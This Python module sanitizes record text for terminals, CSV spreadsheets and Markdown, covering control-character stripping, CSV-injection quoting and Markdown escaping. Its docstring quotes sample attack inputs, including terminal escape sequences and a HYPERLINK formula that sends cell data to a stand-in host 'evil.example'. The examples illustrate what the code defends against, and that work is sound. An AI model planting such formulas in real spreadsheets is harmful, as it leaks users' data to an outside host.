"""Record text made inert for where it goes (pure): a terminal, a spreadsheet, Markdown.

Record text is whatever a worker, a hand edit or a teammate's sync put there. Written
raw it can act instead of being read: ``ESC ] 0 ; ... BEL`` retitles the terminal and
``ESC [ 2 J`` clears it; a newline in a name forges a line of ``rj due``; a cell
``=HYPERLINK("http://evil.example/?"&A1,"x")`` is a live formula in Excel; a victim
named ``# Heading`` or ``[x](http://evil)`` is a heading or a link in a letter. The
functions here are the one place each of those is undone; names and ids are refused
on input with :func:`name_problem`.
"""

from __future__ import annotations

import re

_CONTROL = re.compile(r"[\x00-\x1f\x7f-\x9f\u2028\u2029]")
"""C0 (newline and tab included), DEL, C1, and the Unicode line and paragraph
separators (some terminals and editors break the line there)."""
_LINE_BREAKS = "\n\r\t\x0b\x0c\x85\u2028\u2029"
_ONE_LINE = {**{c: None for c in range(0x20)}, **{c: None for c in range(0x7f, 0xa0)},
             **{ord(c): " " for c in _LINE_BREAKS}}
_MANY_LINES = {**_ONE_LINE, ord("\n"): "\n", ord("\r"): None}


def printable(text: str, newlines: bool = False) -> str:
    """``text`` with no control character left: tabs and line breaks become spaces
    (kept as newlines with ``newlines``, for a layout with room for several lines),
    every other C0 or C1 control character, ESC and DEL are dropped. Nothing of an
    escape sequence can act once its ESC (or C1 introducer) is gone, so a later cut of
    the result can never leave one open."""
    if text.isprintable():  # almost every name: ~0.1 us, where translate takes ~5 us
        return text
    return text.translate(_MANY_LINES if newlines else _ONE_LINE)


def control_characters_in(text: str) -> list[str]:
    """The control characters (newlines included) in ``text``, as ``U+001B`` words: empty
    when ``text`` may be a name or an id."""
    return sorted({f"U+{ord(c):04X}" for c in _CONTROL.findall(text)})


_INVISIBLE = re.compile("[\u202a-\u202e\u2066-\u2069\u200b-\u200f\ufeff\u00ad]")
"""Bidi controls and zero-width characters: a name holding one shows backwards, or looks
like another name it is not (``Ann Ex\u00adample`` is not ``Ann Example`` to a search)."""


def name_problem(what: str, value: str | None) -> str | None:
    """Why ``value`` cannot be a name or an id (None: it can): it holds a control
    character, a line break, a bidi control or a zero-width character. (The schemas say
    the same of control characters in names in the files, so a hand edit is an ``rj check``
    error.)"""
    codes = sorted({*control_characters_in(value),
                    *(f"U+{ord(c):04X}" for c in _INVISIBLE.findall(value))}) if value else []
    if not codes:
        return None
    return (f"{what} holds a control character or line break ({', '.join(codes)}): "
            "a name is one line of plain text")


# --- spreadsheets (OWASP "CSV injection") ------------------------------------------------

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
"""First characters that make a spreadsheet read a cell as a formula (OWASP)."""
_PLAIN_NUMBER = re.compile(r"[+-]?\d+(?:[.,]\d+)*%?")


def formula_like(value: str) -> bool:
    """True for text a spreadsheet would run as a formula: starts with one of
    :data:`FORMULA_STARTS`. A plain number (``-3``, ``-12.5%``) and rj's lone ``-``
    (a figure not shown) are values, not formulas, and stay as they are."""
    return (value.startswith(FORMULA_STARTS) and value != "-"
            and not _PLAIN_NUMBER.fullmatch(value))


def spreadsheet_cell(value: str) -> str:
    """Cell text with no control character (a spreadsheet cannot hold most of them, and
    a CSV read at a terminal would act on them); line breaks kept, tabs as spaces."""
    return printable(value, newlines=True)


def spreadsheet_text(value: str) -> str:
    """A CSV cell that opens as text: no control character, and a formula-like value
    (before or after that cleaning) gets a leading ``'``."""
    cell = spreadsheet_cell(value)
    return "'" + cell if formula_like(value) or formula_like(cell.lstrip()) else cell


# --- Markdown ------------------------------------------------------------------------------

_INLINE = re.compile(r"([\\`*_\[\]<>|~])")
_HTML_INLINE = re.compile(r"([\\`*_\[\]|~])")
_ENTITY = re.compile(r"&(?=#?[0-9A-Za-z]+;)")
_INDENT = re.compile(r"^[ \t]+", re.M)
_LINE_START = re.compile(r"^(?:(#{1,6}|[-+])(?=[ \t]|$)|([=-])(?=[= \t-]*$)"
                         r"|(\d{1,9})(?=[.)](?:[ \t]|$)))", re.M)
"""What opens a block at the start of a line: a heading (``# ``), a list item (``- ``,
``+ ``, ``1. ``, ``1) ``), a setext underline or a thematic break (``===``, ``---``)."""


def markdown_literal(text: str, html_escaped_after: bool = False) -> str:
    """``text`` shown as written when it is placed in Markdown: inline marks
    (emphasis, code, links, images, raw HTML, table bars) and entities are
    backslash-escaped, and so is anything that would open a block at the start of a
    line (heading, quote, list, setext underline); indentation that would make a code
    block is dropped. With ``html_escaped_after`` (Jinja's autoescape runs next), ``<``,
    ``>`` and ``&`` are left for the HTML escape, which makes them entities."""
    if html_escaped_after:
        text = _HTML_INLINE.sub(r"\\\1", text)
    else:
        text = _ENTITY.sub(r"\\&", _INLINE.sub(r"\\\1", text))
    return _LINE_START.sub(_escape_line_start, _INDENT.sub("", text))


def _escape_line_start(match: re.Match[str]) -> str:
    mark, underline, number = match.groups()
    if number:
        return number + "\\"  # "12. " -> "12\. "
    return "\\" + (mark or underline)
